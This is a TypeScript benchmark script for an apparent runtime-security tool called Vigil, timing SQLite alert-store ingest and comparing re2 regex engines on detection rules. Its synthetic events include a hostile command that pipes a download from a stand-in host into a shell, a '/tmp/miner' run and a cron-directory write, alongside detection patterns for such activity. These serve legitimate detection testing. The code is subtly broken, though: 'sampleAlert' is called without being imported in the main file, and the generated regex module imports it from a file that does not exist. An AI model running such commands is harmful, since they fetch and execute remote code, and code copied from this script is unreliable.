// SPDX-License-Identifier: Apache-2.0
/**
 * The figures behind dropping the native addons (run it through test/bench/runtime-addons.sh,
 * which installs the candidates that are no longer dependencies): everything in this one process,
 * on the pinned Node, the candidates interleaved round by round so they share the machine's load.
 *
 * 1. Store ingest: the collector's AlertStore as it was on better-sqlite3 (its source from git,
 *    imports pointed at this tree) against the AlertStore on node:sqlite: batches of 500
 *    realistic alerts into a store file (WAL, synchronous NORMAL, as the collector runs it),
 *    alerts/s by wall clock and per CPU second; then paging the stored alerts back (queryPage,
 *    pages of 500 in time order, what queries and the tail history read).
 * 2. Regex: the `regex` operator's matcher on re2 (native), re2js (pure JavaScript, what
 *    rules/compile/regex.ts uses) and re2-wasm: ns per whole-value match on rule-like patterns and
 *    event values; then whole rule sets, Falco's stable rules (no `regex` at all, as Vigil's own
 *    packs) and the same plus six `regex` rules, evaluated over an event mix with each matcher
 *    (copies of rules/ whose regex.ts uses the other engines), and how many regex matches an
 *    event costs.
 *
 * usage: node --import ./test/sinks/helpers/register-ts.mjs test/bench/runtime-addons.ts CANDIDATES_DIR OLD_STORE.ts
 */
import { cpSync, mkdirSync, mkdtempSync, readFileSync, rmSync, symlinkSync, writeFileSync } from "node:fs";
import { createRequire } from "node:module";
import { tmpdir } from "node:os";
import { dirname, join, resolve } from "node:path";
import { fileURLToPath, pathToFileURL } from "node:url";
import type { Alert } from "../../proto/index.js";
import type { SyscallEvent, ThreadInfo } from "../../rules/event.js";
import type { RuleSet } from "../../rules/index.js";
import { container, ev, execve, fileFd, O, openat, proc, sockFd } from "../rules/event-builder.js";
import { STABLE_RULES } from "../rules/stable-path.js";

const [candDir, oldStoreFile] = process.argv.slice(2);
if (candDir === undefined || oldStoreFile === undefined) throw new Error("usage: runtime-addons.ts CANDIDATES_DIR OLD_STORE.ts");
const REPO = resolve(dirname(fileURLToPath(import.meta.url)), "..", "..");
const candidates = createRequire(join(candDir, "package.json"));
const work = mkdtempSync(join(tmpdir(), "vigil-runtime-addons-"));
process.on("exit", () => rmSync(work, { recursive: true, force: true }));
// the copies of rules/ below resolve their packages (yaml, re2js) from this tree
symlinkSync(join(REPO, "node_modules"), join(work, "node_modules"));

const median = (xs: number[]): number => [...xs].sort((a, b) => a - b)[Math.floor(xs.length / 2)] as number;
const round = (x: number, d = 0): number => Math.round(x * 10 ** d) / 10 ** d;
function cpuMs(since: NodeJS.CpuUsage): number {
  const c = process.cpuUsage(since);
  return (c.user + c.system) / 1000;
}
const versions = {
  node: process.version,
  sqlite: process.versions.sqlite,
  "better-sqlite3": (candidates("better-sqlite3/package.json") as { version: string }).version,
  re2: (candidates("re2/package.json") as { version: string }).version,
  "re2-wasm": (candidates("re2-wasm/package.json") as { version: string }).version,
  re2js: (JSON.parse(readFileSync(join(REPO, "node_modules/re2js/package.json"), "utf8")) as { version: string }).version,
};
console.log(`versions: ${JSON.stringify(versions)}`);

// ---------------------------------------------------------------------------------------- store
interface StoreLike {
  insert(alerts: readonly Alert[]): { inserted: unknown[]; duplicates: number };
  queryPage(f: object, o: { order: "time" | "seq"; after?: unknown; limit: number; maxBytes: number }): { rows: unknown[]; next: unknown; more: boolean };
  close(): void;
}
type StoreCtor = new (o: { dataDir: string }) => StoreLike;

/** The store before the move, its relative imports pointed at this tree's modules. */
async function oldStore(): Promise<StoreCtor> {
  const src = readFileSync(oldStoreFile as string, "utf8")
    .replace(/from "(\.\.?\/[^"]+)"/g, (_m, rel: string) => `from ${JSON.stringify(pathToFileURL(join(REPO, "collector", rel)).href)}`)
    .replace('from "better-sqlite3"', `from ${JSON.stringify(pathToFileURL(candidates.resolve("better-sqlite3")).href)}`);
  const file = join(work, "old-store.ts");
  writeFileSync(file, src);
  return ((await import(pathToFileURL(file).href)) as { AlertStore: StoreCtor }).AlertStore;
}

function alert(i: number): Alert {
  const critical = i % 7 === 0;
  return sampleAlert(i, {
    time: new Date(Date.UTC(2026, 5, 1) + i).toISOString().replace("Z", "000000Z"),
    outputTime: "2026-06-01T12:00:00.000000000Z",
    rule: critical ? "Drop and execute new binary in container" : "Read Shadow File",
    priority: critical ? "Critical" : "Warning",
    hostname: `node-${i % 5}`,
    containerId: `abcdef${String(i % 50).padStart(6, "0")}`,
    namespace: `ns-${i % 4}`,
    pod: `web-${i % 50}`,
  });
}

async function storeIngest(): Promise<Record<string, unknown>> {
  const { AlertStore: NewStore } = (await import("../../collector/store.js")) as unknown as { AlertStore: StoreCtor };
  const kinds: [string, StoreCtor][] = [
    ["better-sqlite3", await oldStore()],
    ["node:sqlite", NewStore],
  ];
  const BATCH = 500;
  const BATCHES = 40; // 20,000 alerts a round
  const ROUNDS = 6; // the first is a warm-up
  let seq = 0;
  const stores = kinds.map(([name, C]) => {
    const dir = join(work, `store-${name.replace(":", "-")}`);
    mkdirSync(dir);
    return { name, store: new C({ dataDir: dir }), wall: [] as number[], cpu: [] as number[], readWall: [] as number[] };
  });
  for (let r = 0; r < ROUNDS; r++) {
    for (const s of r % 2 === 0 ? stores : [...stores].reverse()) {
      const batches = Array.from({ length: BATCHES }, () => Array.from({ length: BATCH }, () => alert(seq++)));
      const c0 = process.cpuUsage();
      const t0 = performance.now();
      for (const b of batches) if (s.store.insert(b).inserted.length !== BATCH) throw new Error("lost alerts");
      const wall = performance.now() - t0;
      const cpu = cpuMs(c0);
      if (r > 0) {
        s.wall.push((BATCH * BATCHES) / (wall / 1000));
        s.cpu.push((BATCH * BATCHES) / (cpu / 1000));
      }
    }
  }
  // read everything back in pages, as a query does
  for (let r = 0; r < 4; r++) {
    for (const s of stores) {
      const t0 = performance.now();
      let after: unknown;
      let n = 0;
      for (;;) {
        const p = s.store.queryPage({}, { order: "time", after, limit: 500, maxBytes: 8 << 20 });
        n += p.rows.length;
        after = p.next;
        if (!p.more) break;
      }
      if (r > 0) s.readWall.push(n / ((performance.now() - t0) / 1000));
    }
  }
  const out: Record<string, unknown> = {};
  for (const s of stores) {
    out[s.name] = {
      ingestAlertsPerSecWall: round(median(s.wall)),
      ingestAlertsPerCpuSec: round(median(s.cpu)),
      readAlertsPerSec: round(median(s.readWall)),
    };
    s.store.close();
  }
  return out;
}

// ---------------------------------------------------------------------------------------- regex
type Compile = (field: string, pattern: string) => (s: string) => boolean;

/** regex.ts for a copy of rules/ on another engine (the pattern wrapped for a whole match, as the native module was used). */
function engineModule(engine: "re2" | "re2-wasm" | "count"): string {
  if (engine === "count") {
    return `import { compileRegex as real } from ${JSON.stringify(pathToFileURL(join(REPO, "rules/compile/regex.ts")).href)};
export function compileRegex(field: string, pattern: string): (s: string) => boolean {
  const m = real(field, pattern);
  const g = globalThis as unknown as { vigilRegexCalls: number };
  g.vigilRegexCalls = 0;
  return (s) => { g.vigilRegexCalls++; return m(s); };
}\n`;
  }
  const load =
    engine === "re2"
      ? `createRequire(${JSON.stringify(join(candDir as string, "package.json"))})("re2")`
      : `createRequire(${JSON.stringify(join(candDir as string, "package.json"))})("re2-wasm").RE2`;
  const flags = engine === "re2" ? "" : ', "u"';
  return `import { createRequire } from "node:module";
import { CompileError } from "../errors.js";
import { sampleAlert } from "./sample-alert.mjs";
const RE2 = ${load};
export function compileRegex(field: string, pattern: string): (s: string) => boolean {
  let re: { test(s: string): boolean };
  try {
    re = new RE2(\`^(?:\${pattern})$\`${flags});
  } catch (err) {
    throw new CompileError("BAD_REGEX", \`invalid regex '\${pattern}' for field '\${field}': \${(err as Error).message}\`, undefined, { cause: err });
  }
  return (s) => re.test(s);
}\n`;
}

/** A copy of rules/ whose regex matcher is another engine's; returns its loadRuleFiles. */
async function rulesCopy(engine: "re2" | "re2-wasm" | "count"): Promise<typeof import("../../rules/index.js")> {
  const root = join(work, `rules-${engine}`);
  cpSync(join(REPO, "rules"), join(root, "rules"), { recursive: true });
  symlinkSync(join(REPO, "proto"), join(root, "proto"));
  writeFileSync(join(root, "rules/compile/regex.ts"), engineModule(engine));
  return (await import(pathToFileURL(join(root, "rules/index.ts")).href)) as typeof import("../../rules/index.js");
}

/** Six rules a user might write with `regex` (Falco's stable rules and Vigil's packs have none). */
const REGEX_RULES = String.raw`
- rule: Write below cron or sudoers directories
  desc: a file under the cron or sudoers directories opened for writing
  condition: evt.type in (open, openat, openat2) and evt.is_open_write = true and fd.name regex '/etc/(cron\\.d|cron\\.(hourly|daily|weekly|monthly)|sudoers\\.d|systemd/system)/.*'
  output: write below cron or sudoers (file=%fd.name proc=%proc.name)
  priority: WARNING
- rule: Read of key material
  desc: a private key or keystore opened
  condition: evt.type in (open, openat, openat2) and fd.name regex '.*\\.(pem|key|p12|pfx|jks|keystore)'
  output: key material read (file=%fd.name proc=%proc.name)
  priority: NOTICE
- rule: Download piped to a shell
  desc: curl or wget output piped into a shell
  condition: evt.type = execve and proc.cmdline regex '.*(curl|wget)[^|]*\\|\\s*(ba|da|z)?sh.*'
  output: download piped to shell (cmd=%proc.cmdline)
  priority: CRITICAL
- rule: Program run from a temporary directory
  desc: a program executed from a world-writable temporary directory
  condition: evt.type = execve and proc.exepath regex '/(tmp|var/tmp|dev/shm|run/user/[0-9]+)/.*'
  output: program from a temporary directory (exe=%proc.exepath)
  priority: WARNING
- rule: Base64 decode on the command line
  desc: base64 decoding in a command line
  condition: evt.type = execve and proc.cmdline regex '.*base64\\s+(-d|--decode).*'
  output: base64 decode (cmd=%proc.cmdline)
  priority: NOTICE
- rule: Unexpected image runs a shell
  desc: a shell in a container whose image is not one of the app images
  condition: evt.type = execve and proc.name in (sh, bash) and not container.image.repository regex 'registry\\.local/app-[0-9]+'
  output: shell in an unexpected image (image=%container.image.repository)
  priority: NOTICE
`;

/** An event mix like rules.bench.ts's: mostly opens and execs that match nothing, 0.5 % that match. */
function eventMix(n: number): SyscallEvent[] {
  let seed = 42;
  const rnd = (): number => {
    seed = (seed * 1103515245 + 12345) & 0x7fffffff;
    return seed / 0x7fffffff;
  };
  const pick = <T>(xs: readonly T[]): T => xs[Math.floor(rnd() * xs.length)] as T;
  const containers = Array.from({ length: 20 }, (_, i) => container({ id: `c${String(i).padStart(11, "0")}`, imageRepository: `registry.local/app-${i}` }));
  const init = proc({ comm: "systemd", pid: 1 });
  const procs: ThreadInfo[] = [];
  for (const c of [undefined, ...containers]) {
    for (const comm of ["nginx", "node", "python3", "java", "bash"]) {
      const p = proc({ comm, exepath: `/usr/bin/${comm}`, args: ["-c", "serve --port 8080"], startTs: 1_000_000, ...(c ? { container: c } : {}) });
      p.parent = init;
      procs.push(p);
    }
  }
  const reads = [
    "/usr/lib/x86_64-linux-gnu/libc.so.6",
    "/etc/ld.so.cache",
    "/proc/self/status",
    "/usr/share/zoneinfo/UTC",
    "/etc/hosts",
    "/etc/resolv.conf",
    "/etc/passwd",
    "/var/lib/app/data.db",
    "/srv/www/index.html",
    "/etc/ssl/certs/ca-certificates.crt",
  ];
  const writes = ["/var/lib/app/data.db", "/tmp/out.txt", "/var/log/app/app.log", "/srv/uploads/x.png"];
  const cmds: [string, string[]][] = [
    ["ls", ["-la", "/srv"]],
    ["cat", ["/etc/hostname"]],
    ["grep", ["-r", "TODO", "/srv/app/src"]],
    ["python3", ["/srv/app/manage.py", "migrate", "--noinput"]],
    ["node", ["/srv/app/server.js", "--port", "8080"]],
    ["sed", ["-i", "s/a/b/", "/srv/app/config.ini"]],
  ];
  const out: SyscallEvent[] = [];
  for (let i = 0; i < n; i++) {
    const p = pick(procs);
    if (i % 200 === 199) {
      const k = i % 3;
      if (k === 0) out.push(execve(proc({ comm: "sh", args: ["-c", "curl -s http://x.example/i.sh | sh"], container: pick(containers) })));
      else if (k === 1) out.push(openat("/etc/cron.d/evil", O.WRONLY | O.CREAT, p));
      else out.push(execve(proc({ comm: "miner", exepath: "/tmp/miner", container: pick(containers) })));
      continue;
    }
    const r = rnd();
    if (r < 0.45) out.push(openat(pick(reads), O.RDONLY | O.CLOEXEC, p));
    else if (r < 0.55) out.push(openat(pick(writes), O.WRONLY | O.CREAT | O.APPEND, p));
    else if (r < 0.72) {
      const [comm, args] = pick(cmds);
      const child = proc({ comm, exepath: `/usr/bin/${comm}`, args, ...(p.container ? { container: p.container } : {}) });
      child.parent = p;
      out.push(execve(child));
    } else if (r < 0.8) out.push(ev({ type: "connect", res: 0, proc: p, fd: sockFd("10.1.0.5", 40000, "10.96.0.10", 53) }));
    else if (r < 0.92) out.push(ev({ type: "close", res: 0, args: { fd: 5 }, proc: p, fd: fileFd("/tmp/x") }));
    else out.push(ev({ type: "socket", res: 5, args: { domain: 2, type: 1, proto: 0 }, proc: p }));
  }
  return out;
}

/** Patterns and values for the matcher alone: the regex rules' patterns over values they meet. */
const MICRO_PATTERNS = [
  "/etc/(cron\\.d|cron\\.(hourly|daily|weekly|monthly)|sudoers\\.d|systemd/system)/.*",
  ".*\\.(pem|key|p12|pfx|jks|keystore)",
  ".*(curl|wget)[^|]*\\|\\s*(ba|da|z)?sh.*",
  "/(tmp|var/tmp|dev/shm|run/user/[0-9]+)/.*",
  ".*base64\\s+(-d|--decode).*",
  "registry\\.local/app-[0-9]+",
];
const MICRO_VALUES = [
  "/usr/lib/x86_64-linux-gnu/libc.so.6",
  "/etc/ld.so.cache",
  "/var/lib/app/data.db",
  "/etc/cron.d/evil",
  "/etc/ssl/private/server.key",
  "python3 /srv/app/manage.py migrate --noinput",
  "sh -c curl -s http://x.example/i.sh | sh",
  "node /srv/app/server.js --port 8080",
  "/tmp/miner",
  "registry.local/app-12",
];

function microMatch(engines: [string, Compile][]): Record<string, number> {
  const compiled = engines.map(([name, c]) => ({ name, preds: MICRO_PATTERNS.map((p) => c("x", p)), ns: [] as number[] }));
  // every engine agrees on every value before anything is timed
  for (const v of MICRO_VALUES) {
    const want = compiled[0]!.preds.map((f) => f(v));
    for (const e of compiled) {
      const got = e.preds.map((f) => f(v));
      if (got.join() !== want.join()) throw new Error(`${e.name} disagrees on ${v}: ${got} vs ${want}`);
    }
  }
  const N = 20_000;
  let sink = 0;
  for (let r = 0; r < 7; r++) {
    for (const e of compiled) {
      const t0 = process.hrtime.bigint();
      for (let i = 0; i < N; i++) for (const f of e.preds) for (const v of MICRO_VALUES) if (f(v)) sink++;
      const ns = Number(process.hrtime.bigint() - t0) / (N * e.preds.length * MICRO_VALUES.length);
      if (r > 1) e.ns.push(ns);
    }
  }
  if (sink < 0) console.log(sink);
  return Object.fromEntries(compiled.map((e) => [e.name, round(median(e.ns), 1)]));
}

async function ruleEvaluation(): Promise<Record<string, unknown>> {
  const re2js = (await import("../../rules/index.js")) as typeof import("../../rules/index.js");
  const copies = { re2: await rulesCopy("re2"), "re2-wasm": await rulesCopy("re2-wasm"), count: await rulesCopy("count") };
  const stableText = readFileSync(STABLE_RULES, "utf8");
  const files = [
    { path: STABLE_RULES, text: stableText },
    { path: join(work, "regex-rules.yaml"), text: REGEX_RULES },
  ];
  const load = (m: typeof re2js, fs: typeof files): RuleSet => {
    const r = m.loadRuleFiles(fs);
    if (!r.ok) throw new Error("rules failed to load");
    return r.ruleset;
  };
  const sets: [string, RuleSet][] = [
    ["stable (no regex)", load(re2js, files.slice(0, 1))],
    ["stable + 6 regex rules, re2 (native)", load(copies.re2, files)],
    ["stable + 6 regex rules, re2js", load(re2js, files)],
    ["stable + 6 regex rules, re2-wasm", load(copies["re2-wasm"], files)],
  ];
  const events = eventMix(10_000);
  const matches = sets.map(([name, rs]) => {
    let m = 0;
    for (const e of events) rs.evaluate(e, () => void m++);
    return [name, m] as const;
  });
  // the same events match in every set with the regex rules
  if (new Set(matches.slice(1).map(([, m]) => m)).size !== 1) throw new Error(`matchers disagree: ${JSON.stringify(matches)}`);
  const counting = load(copies.count, files);
  const g = globalThis as unknown as { vigilRegexCalls: number };
  g.vigilRegexCalls = 0;
  for (const e of events) counting.evaluate(e, () => undefined);
  const regexCallsPerEvent = g.vigilRegexCalls / events.length;

  let sink = 0;
  const onMatch = (): void => void sink++;
  const pass = (rs: RuleSet): number => {
    const t0 = process.hrtime.bigint();
    for (let k = 0; k < events.length; k++) rs.evaluate(events[k] as SyscallEvent, onMatch);
    return Number(process.hrtime.bigint() - t0);
  };
  for (const [, rs] of sets) for (let w = 0; w < 20; w++) pass(rs);
  const ns = sets.map(() => [] as number[]);
  // CPU time too: on a shared machine wall time includes waiting for a core
  const cpuNs = sets.map(() => [] as number[]);
  const PASSES = 40; // 400,000 events a round
  for (let r = 0; r < 5; r++) {
    sets.forEach(([, rs], i) => {
      let t = 0;
      const c0 = process.cpuUsage();
      for (let p = 0; p < PASSES; p++) t += pass(rs);
      cpuNs[i]!.push((cpuMs(c0) * 1e6) / (PASSES * events.length));
      ns[i]!.push(t / (PASSES * events.length));
    });
  }
  const base = median(ns[0]!);
  return {
    events: events.length,
    matchesInMix: Object.fromEntries(matches),
    regexCallsPerEvent: round(regexCallsPerEvent, 3),
    nsPerEvent: Object.fromEntries(
      sets.map(([name], i) => [name, { median: round(median(ns[i]!), 1), best: round(Math.min(...ns[i]!), 1), cpuMedian: round(median(cpuNs[i]!), 1) }]),
    ),
    eventsPerSec: Object.fromEntries(sets.map(([name], i) => [name, round(1e9 / median(ns[i]!))])),
    regexNsPerEvent: Object.fromEntries(sets.slice(1).map(([name], i) => [name, round(median(ns[i + 1]!) - base, 1)])),
  };
}

const store = await storeIngest();
console.log(`store: ${JSON.stringify(store)}`);
const re2native = candidates("re2") as new (p: string) => { test(s: string): boolean };
const re2wasm = (candidates("re2-wasm") as { RE2: new (p: string, f: string) => { test(s: string): boolean } }).RE2;
const { compileRegex } = await import("../../rules/compile/regex.js");
/** A whole-value matcher on an engine with RegExp's interface: the pattern wrapped in ^(?:...)$. */
const anchored =
  (make: (source: string) => { test(s: string): boolean }): Compile =>
  (_field, pattern) => {
    const re = make(`^(?:${pattern})$`);
    return (s) => re.test(s);
  };
const micro = microMatch([
  ["re2 (native)", anchored((src) => new re2native(src))],
  ["re2js", compileRegex],
  ["re2-wasm", anchored((src) => new re2wasm(src, "u"))],
  // reference only: V8's backtracking RegExp, which the project does not allow on attacker input
  ["RegExp (backtracking, reference)", anchored((src) => new RegExp(src))],
]);
console.log(`regex match alone, ns per whole-value match: ${JSON.stringify(micro)}`);
const rules = await ruleEvaluation();
console.log(`rule evaluation: ${JSON.stringify(rules)}`);
writeFileSync(join(tmpdir(), "vigil-runtime-addons.json"), JSON.stringify({ versions, store, micro, rules }, null, 2));
